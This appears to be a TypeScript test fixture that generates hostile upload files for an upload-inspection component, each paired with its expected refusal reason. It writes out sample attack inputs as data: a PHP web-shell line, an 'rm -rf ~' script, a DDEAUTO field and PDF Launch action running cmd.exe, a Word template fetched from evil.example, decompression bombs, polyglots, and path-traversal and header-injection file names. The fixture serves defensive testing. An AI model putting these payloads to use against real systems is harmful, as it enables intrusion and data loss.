import sharp from 'sharp'
import type { Refusal } from '../../../src/files/inspection/verdict.ts'
import { makeOffice, officeEntries } from './office.ts'
import { makePdf, streamPart } from './pdf.ts'
import { makeZip } from './zip.ts'

export type HostileFile = {
  readonly what: string
  readonly fileName: string
  readonly bytes: Buffer
  /** Why it is refused; a text where the name or the size already is. */
  readonly refusal: Refusal | RegExp
  readonly fileType?: string
}

// In two parts, or a virus check on a developer's machine would take this file away.
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')
const megabytes = (count: number, fill = 0) => Buffer.alloc(count * 1_048_576, fill)
const latin1 = (text: string) => Buffer.from(text, 'latin1')

export async function makeHostileFiles(): Promise<HostileFile[]> {
  const blank = sharp({ create: { width: 64, height: 64, channels: 3, background: '#1F5B4A' } })
  const jpeg = await blank.clone().jpeg().toBuffer()
  const png = await blank.clone().png().toBuffer()
  const webp = await blank.clone().webp().toBuffer()
  const gif = await blank.clone().gif().toBuffer()
  const tiff = await blank.clone().tiff().toBuffer()
  const enormous = await sharp({
    create: { width: 12_000, height: 12_000, channels: 3, background: '#000' },
    limitInputPixels: false,
  })
    .png({ compressionLevel: 9 })
    .toBuffer()
  const pdf = makePdf()
  const docx = makeOffice('docx')
  const scriptPart = latin1('5 0 6 40 << /S /JavaScript /JS (app.alert(1)) >> << >>')
  const file = (
    what: string,
    fileName: string,
    bytes: Buffer,
    refusal: HostileFile['refusal'],
  ): HostileFile => ({
    what,
    fileName,
    bytes,
    refusal,
  })
  return [
    // Infected.
    file('the test signature', 'letter.txt', latin1(eicar), 'infected'),
    file('the test signature named as a PDF', 'letter.pdf', latin1(eicar), 'infected'),
    file(
      'the test signature in the middle of a text',
      'notes.txt',
      latin1(`Dear bank,\n${eicar}\nYours`),
      'infected',
    ),
    file('the test signature after a PDF', 'letter.pdf', Buffer.concat([pdf, latin1(eicar)]), 'infected'),
    file('the test signature in a picture', 'passport.jpg', Buffer.concat([jpeg, latin1(eicar)]), 'infected'),
    file(
      'the test signature packed in a Word document',
      'plan.docx',
      makeOffice('docx', [{ name: 'word/media/a.txt', content: eicar }]),
      'infected',
    ),

    // Disguised by their names.
    file('a PDF named as a picture', 'passport.jpg', pdf, 'disguised'),
    file('a picture named as a PDF', 'passport.pdf', jpeg, 'disguised'),
    file('a PNG named as a JPEG', 'passport.jpeg', png, 'disguised'),
    file('a text named as a PDF', 'bank letter.pdf', latin1('Dear Sir or Madam'), 'disguised'),
    file('a text named as a program', 'setup.exe', latin1('echo hello'), 'disguised'),
    file('a PDF with a program’s name after its own', 'passport.pdf.exe', pdf, 'disguised'),
    file('a Word document named as Excel', 'budget.xlsx', docx, 'disguised'),
    file('a Word document named as a PDF', 'plan.pdf', docx, 'disguised'),
    file('a text named as a web page', 'index.html', latin1('just words'), 'disguised'),
    file('an Excel workbook named as Word', 'plan.docx', makeOffice('xlsx'), 'disguised'),
    { ...file('a PDF announced as a picture', 'passport', pdf, 'disguised'), fileType: 'image/png' },

    // Of another kind.
    file(
      'a Windows program named as a PDF',
      'letter.pdf',
      Buffer.concat([latin1('MZ\u0090\0\u0003'), megabytes(1)]),
      'unknown-type',
    ),
    file(
      'a Linux program',
      'letter',
      Buffer.concat([latin1('\u007fELF\u0002\u0001\u0001'), Buffer.alloc(300)]),
      'unknown-type',
    ),
    file('zeros', 'blank.txt', megabytes(1), 'unknown-type'),
    file(
      'noise',
      'scan.pdf',
      Buffer.from(Array.from({ length: 4096 }, (_, at) => (at * 197 + 31) % 256)),
      'unknown-type',
    ),
    file('an archive', 'papers.zip', makeZip([{ name: 'a.txt', content: 'a' }]), 'unknown-type'),
    file(
      'an archive named as Word',
      'papers.docx',
      makeZip([{ name: 'a.txt', content: 'a' }]),
      'unknown-type',
    ),
    file('a GIF', 'photo.gif', gif, 'unknown-type'),
    file('a TIFF', 'scan.tiff', tiff, 'unknown-type'),
    file('a phone’s WebP picture', 'photo.webp', webp, 'phone-picture'),
    file(
      'a phone’s HEIC picture',
      'photo.heic',
      Buffer.concat([latin1('\0\0\0\u0018ftypheic\0\0\0\0mif1heic'), Buffer.alloc(64)]),
      'phone-picture',
    ),
    file(
      'an old Word document',
      'plan.doc',
      Buffer.concat([latin1('\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1'), Buffer.alloc(2048)]),
      'old-office',
    ),
    file('RTF', 'plan.rtf', latin1('{\\rtf1\\ansi Hello}'), 'unknown-type'),

    // Pages and scripts.
    file('a web page', 'letter.txt', latin1('<!DOCTYPE html><title>x</title>'), 'markup'),
    file('a script in a text', 'letter.txt', latin1('Hello <script>alert(1)</script>'), 'markup'),
    file(
      'SVG named as PNG',
      'photo.png',
      latin1('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      'markup',
    ),
    file('SVG after a declaration', 'photo.svg', latin1('<?xml version="1.0"?><svg/>'), 'markup'),
    file('a shell script', 'run.txt', latin1('#!/bin/sh\nrm -rf ~'), 'markup'),
    file('a PHP page', 'letter.txt', latin1('<?php system($_GET[0]); ?>'), 'markup'),
    file('a web page in UTF-16', 'letter.txt', Buffer.from('\ufeff<html><body>x', 'utf16le'), 'markup'),

    // Protected.
    file('a PDF with a password', 'statement.pdf', makePdf({ trailer: '/Encrypt 5 0 R' }), 'encrypted'),
    file(
      'a PDF whose /Encrypt is spelled in codes',
      'statement.pdf',
      makePdf({ trailer: '/#45ncrypt << /V 1 >>' }),
      'encrypted',
    ),
    file(
      'a Word document with a password',
      'plan.docx',
      Buffer.concat([
        latin1('\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1'),
        Buffer.alloc(512),
        Buffer.from('EncryptedPackage', 'utf16le'),
        Buffer.alloc(512),
      ]),
      'encrypted',
    ),
    file(
      'a Word document with an encrypted part',
      'plan.docx',
      makeZip([...officeEntries('docx'), { name: 'word/a.xml', content: 'x', flags: 0x801 }]),
      'encrypted',
    ),

    // Broken.
    file('nothing', 'empty.pdf', Buffer.alloc(0), 'empty'),
    file('one byte', 'one.pdf', latin1('%'), 'disguised'),
    file('a PDF that was cut', 'cut.pdf', pdf.subarray(0, pdf.length - 60), 'broken'),
    file(
      'a PDF that lost its middle',
      'holed.pdf',
      Buffer.concat([pdf.subarray(0, 120), pdf.subarray(260)]),
      'broken',
    ),
    file('a PDF of a first line only', 'head.pdf', latin1('%PDF-1.7\n'), 'broken'),
    file(
      'a PDF without pages',
      'nopage.pdf',
      Buffer.from(pdf.toString('latin1').replaceAll('/Page', '/Sage'), 'latin1'),
      'broken',
    ),
    file('a JPEG that was cut', 'cut.jpg', jpeg.subarray(0, Math.floor(jpeg.length / 2)), 'broken'),
    file('a PNG that was cut', 'cut.png', png.subarray(0, png.length - 30), 'broken'),
    file('a PNG of a first line only', 'head.png', png.subarray(0, 33), 'broken'),
    file('a Word document that was cut', 'cut.docx', docx.subarray(0, docx.length - 40), 'broken'),
    file(
      'a Word document with a wrong checksum',
      'crc.docx',
      makeZip([...officeEntries('docx'), { name: 'word/a.xml', content: 'x', claimedCrc: 1 }]),
      'broken',
    ),
    file(
      'a Word document without its text',
      'body.docx',
      makeZip(officeEntries('docx').filter(({ name }) => name !== 'word/document.xml')),
      'broken',
    ),

    // With commands inside.
    file(
      'a PDF with JavaScript',
      'form.pdf',
      makePdf({ catalogue: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }),
      'scripted',
    ),
    file(
      'a PDF with JavaScript spelled in codes',
      'form.pdf',
      makePdf({ catalogue: '/OpenAction << /S /J#61vaScript /#4a#53 (x) >>' }),
      'scripted',
    ),
    file(
      'a PDF with JavaScript in a packed part',
      'form.pdf',
      makePdf({ parts: [streamPart('/Type /ObjStm /N 2 /First 8', scriptPart)] }),
      'scripted',
    ),
    file(
      'a PDF with objects in an odd coding',
      'form.pdf',
      makePdf({
        parts: [
          {
            dictionary: '<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode >>',
            stream: latin1('2f4a53>'),
          },
        ],
      }),
      'scripted',
    ),
    file(
      'a PDF that starts a program',
      'run.pdf',
      makePdf({ catalogue: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
      'scripted',
    ),
    file(
      'a PDF with a dynamic form',
      'imm0008.pdf',
      makePdf({ catalogue: '/AcroForm << /XFA 5 0 R >>' }),
      'scripted',
    ),
    file(
      'a PDF that sends a form',
      'form.pdf',
      makePdf({ catalogue: '/AA << /O << /S /SubmitForm /F (http://x) >> >>' }),
      'scripted',
    ),
    file(
      'a Word document that fetches a template',
      'plan.docx',
      makeOffice('docx', [
        {
          name: 'word/_rels/settings.xml.rels',
          content:
            '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        },
      ]),
      'fetching',
    ),
    file(
      'a Word document with a command field',
      'plan.docx',
      makeOffice('docx', [
        {
          name: 'word/header1.xml',
          content:
            '<w:hdr><w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:hdr>',
        },
      ]),
      'scripted',
    ),
    file(
      'a PDF with a link to a program',
      'letter.pdf',
      makePdf({
        parts: [{ dictionary: '<< /Subtype /Link /A << /S /URI /URI (file:///c:/windows/a.exe) >> >>' }],
      }),
      'link',
    ),
    file(
      'a Word document with a link to a folder of a server',
      'plan.docx',
      makeOffice('docx', [
        {
          name: 'word/_rels/document.xml.rels',
          content:
            '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="file:////server/papers/" TargetMode="External"/></Relationships>',
        },
      ]),
      'link',
    ),
    file(
      'a Word document with a field that links to a program',
      'plan.docx',
      makeOffice('docx', [
        {
          name: 'word/a.xml',
          content: '<w:p xmlns:w="u"><w:fldSimple w:instr=\'HYPERLINK "file:///a.exe"\'/></w:p>',
        },
      ]),
      'link',
    ),
    file(
      'a workbook with a link to a program',
      'plan.xlsx',
      makeOffice('xlsx', [{ name: 'xl/a.xml', content: '<a><f>HYPERLINK("file:///a.exe","plan")</f></a>' }]),
      'link',
    ),
    file(
      'a workbook that is reckoned with another',
      'plan.xlsx',
      makeOffice('xlsx', [{ name: 'xl/a.xml', content: "<a><f>'C:\\x\\[b.xlsx]S'!A1</f></a>" }]),
      'fetching',
    ),
    file(
      'a Word document with a picture from elsewhere',
      'plan.docx',
      makeOffice('docx', [
        {
          name: 'word/_rels/document.xml.rels',
          content:
            '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://evil.example/a.png" TargetMode="External"/></Relationships>',
        },
      ]),
      'fetching',
    ),
    file('a Word document with macros', 'plan.docm', makeOffice('docm'), 'macros'),
    file(
      'a Word document with macros, renamed',
      'plan.docx',
      makeOffice('docx', [{ name: 'word/vbaProject.bin', content: 'x' }]),
      'macros',
    ),
    file(
      'an Excel workbook with old macros',
      'budget.xlsx',
      makeOffice('xlsx', [{ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }]),
      'macros',
    ),

    // With files inside.
    file(
      'a PDF with a file in it',
      'portfolio.pdf',
      makePdf({ catalogue: '/Names << /EmbeddedFiles << /Names [] >> >>' }),
      'embedded',
    ),
    file(
      'a Word document with a program in it',
      'plan.docx',
      makeOffice('docx', [{ name: 'word/embeddings/a.exe', content: 'MZ' }]),
      'embedded',
    ),
    file(
      'a Word document with an unnamed program in it',
      'plan.docx',
      makeOffice('docx', [{ name: 'word/media/image1.png', content: 'MZ\u0090' }]),
      'embedded',
    ),
    file(
      'a presentation with an OLE object',
      'deck.pptx',
      makeOffice('pptx', [{ name: 'ppt/embeddings/oleObject1.bin', content: 'x' }]),
      'embedded',
    ),

    // Bombs.
    file(
      'a Word document that unpacks to 300 MB',
      'bomb.docx',
      makeOffice('docx', [
        { name: 'word/a.xml', content: megabytes(150, 0x20) },
        { name: 'word/b.xml', content: megabytes(150, 0x20) },
      ]),
      'bomb',
    ),
    file(
      'a Word document that lies about its size',
      'bomb.docx',
      makeZip([
        ...officeEntries('docx'),
        { name: 'word/a.xml', content: megabytes(20, 0x20), claimedSize: 100 },
      ]),
      'broken',
    ),
    file(
      'a Word document of 6000 parts',
      'bomb.docx',
      makeOffice(
        'docx',
        Array.from({ length: 6000 }, (_, at) => ({ name: `word/${at}.xml`, content: '' })),
      ),
      'bomb',
    ),
    file(
      'a Word document with entities',
      'laughs.docx',
      makeOffice('docx', [{ name: 'word/a.xml', content: '<!DOCTYPE x [<!ENTITY a "&b;&b;">]><x>&a;</x>' }]),
      'bomb',
    ),
    file(
      'a PDF packed twice',
      'bomb.pdf',
      makePdf({ parts: [{ dictionary: '<< /Filter [/FlateDecode /FlateDecode] >>', stream: latin1('x') }] }),
      'bomb',
    ),
    file(
      'a PDF part that unpacks to 300 MB',
      'bomb.pdf',
      makePdf({ parts: [streamPart('', megabytes(300))] }),
      'bomb',
    ),
    file('a picture of 144 million pixels', 'bomb.png', enormous, 'picture-too-large'),

    // Two kinds at once.
    file(
      'a PDF that is an archive too',
      'both.pdf',
      Buffer.concat([pdf, makeZip([{ name: 'a.txt', content: 'a' }])]),
      'polyglot',
    ),
    file(
      'a PDF that is a web page too',
      'both.pdf',
      Buffer.from(pdf.toString('latin1').replace('%\u00e2', '%<script>alert(1)</script>\n%\u00e2'), 'latin1'),
      /damaged|two kinds/,
    ),
    file(
      'a JPEG that is an archive too',
      'both.jpg',
      Buffer.concat([jpeg, makeZip([{ name: 'a.js', content: 'a' }])]),
      'polyglot',
    ),
    file(
      'a JPEG with a script after it',
      'both.jpg',
      Buffer.concat([jpeg, latin1('<script>alert(1)</script>')]),
      'polyglot',
    ),
    file(
      'a PNG with a PHP page after it',
      'both.png',
      Buffer.concat([png, latin1('<?php echo 1; ?>')]),
      'polyglot',
    ),
    file('a PNG that is a PDF too', 'both.png', Buffer.concat([png, pdf]), 'polyglot'),
    file(
      'a Word document with a comment hung on',
      'both.docx',
      makeZip(officeEntries('docx'), 'x'.repeat(40)),
      'polyglot',
    ),
    file(
      'a Word document with a part twice',
      'both.docx',
      makeZip([...officeEntries('docx'), { name: 'word/document.xml', content: '<other/>' }]),
      'polyglot',
    ),
    file(
      'a Word document whose part leads out',
      'slip.docx',
      makeZip([...officeEntries('docx'), { name: '../../etc/passwd', content: 'x' }]),
      'broken',
    ),

    // Names that lead elsewhere, or read otherwise than they are.
    ...[
      '../../etc/passwd',
      '..\\..\\windows\\system32\\drivers\\etc\\hosts',
      '/etc/passwd',
      'C:\\letter.txt',
      'letter\u0000.txt',
      'letter\r\nset-cookie: a=b.txt',
      'letter\u202Etxt.exe',
      '..',
      '   ',
      'x'.repeat(300),
    ].map((fileName) =>
      file(`the name ${JSON.stringify(fileName.slice(0, 40))}`, fileName, latin1('hello'), /fileName/),
    ),
  ]
}
